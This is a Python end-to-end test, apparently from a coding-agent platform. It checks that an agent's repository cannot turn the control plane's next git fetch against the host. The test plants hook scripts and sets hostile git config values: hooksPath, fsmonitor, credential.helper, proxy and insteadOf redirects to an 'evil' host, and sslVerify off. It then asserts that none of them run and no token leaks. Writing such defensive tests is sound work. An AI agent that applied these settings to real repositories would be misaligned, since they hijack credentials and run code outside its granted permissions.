"""An agent that turns its repository against the control plane's next fetch."""

import shlex
from pathlib import Path

import pytest

from adapters.forge.forge import Forge
from composition.client import ApiError
from domain import git_config
from domain.git_config import MAX_ENTRIES, Entry
from tests.e2e.agent import launched
from tests.e2e.conftest import TOKEN, git
from tests.e2e.connected import connect
from tests.e2e.kandev import Installation
from tests.requirements import requirement

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(90)]

TOO_MANY = git_config.serialize([Entry("x.y", "z")] * MAX_ENTRIES)
"""With one of the host's: refused where the agent would run, after the fetch."""


@requirement("git-config:hostile:fetch")
async def test_what_an_agent_configures_runs_in_no_fetch_and_gets_no_token(
    tmp_path: Path, forge: Forge
) -> None:
    marker = tmp_path / "ran"
    planted = tmp_path / "planted"
    planted.mkdir()
    for name in ("reference-transaction", "post-checkout", "monitor", "ssh", "helper"):
        body = f"#!/bin/sh\necho {name} >> {shlex.quote(str(marker))}\n"
        (planted / name).write_text(body, encoding="utf-8")
        (planted / name).chmod(0o755)
    installation = Installation(tmp_path / "home", git_config.serialize([Entry("x.host", "1")]))

    with Forge(tmp_path / "evil", "evil-token-0123456789abcdef") as evil:
        evil.create("acme/app", {"README.md": "# Evil\n"})
        settings = {
            "core.hooksPath": planted,
            "core.fsmonitor": planted / "monitor",
            "core.sshCommand": planted / "ssh",
            "credential.helper": planted / "helper",
            "http.proxy": f"http://{evil.host}",
            "http.sslVerify": "false",
            f"url.https://{evil.host}/.insteadOf": f"https://{forge.host}/",
            f"url.ssh://git@{evil.host}/.pushInsteadOf": f"https://{forge.host}/",
        }
        async with installation.server() as kandev:
            await connect(kandev, forge, TOKEN)
            repository = await kandev.repository({"clone_url": forge.url("acme/app")})
            agent = await launched(kandev, await kandev.task(repository), tmp_path / "told")
            turned = await agent.runs(
                *(
                    shlex.join(["git", "config", name, str(value)])
                    for name, value in settings.items()
                )
            )
            worktree = Path((await kandev.session(agent.session))["metadata"]["workspace"])
            shared = git("rev-parse", "--path-format=absolute", "--git-common-dir", at=worktree)
            trapped = await agent.runs("git status", "git branch other", "git ls-remote origin")
            sprung = set(marker.read_text("utf-8").split())
            marker.unlink()
            before = len(forge.seen())
            ahead = commit(forge, tmp_path)
            with pytest.raises(ApiError) as refused:
                await kandev.launch(await kandev.task(repository), environment=TOO_MANY)

    assert turned == ["complete"] * len(settings)
    assert trapped == ["complete", "complete", "error"]
    assert sprung >= {"monitor", "reference-transaction"}
    assert refused.value.code == "malformed_environment"
    assert git("config", "http.sslVerify", at=Path(shared)) == "false"
    assert Path(shared).parent == installation.home / "repos"
    assert git("rev-parse", "refs/remotes/origin/main", at=Path(shared)) == ahead
    fetched = forge.seen()[before:]
    assert {each.user for each in fetched if each.accepted} == {"robot"}
    assert evil.seen() == []
    assert not marker.exists()


def commit(forge: Forge, folder: Path) -> str:
    """A commit that the next fetch brings; its id."""
    bare = forge.root / "acme/app.git"
    work = folder / "elsewhere"
    git("clone", "--quiet", str(bare), str(work), at=folder)
    git("commit", "--quiet", "--allow-empty", "-m", "Ahead", at=work)
    git("push", "--quiet", "origin", "HEAD:main", at=work)
    return git("rev-parse", "HEAD", at=work)
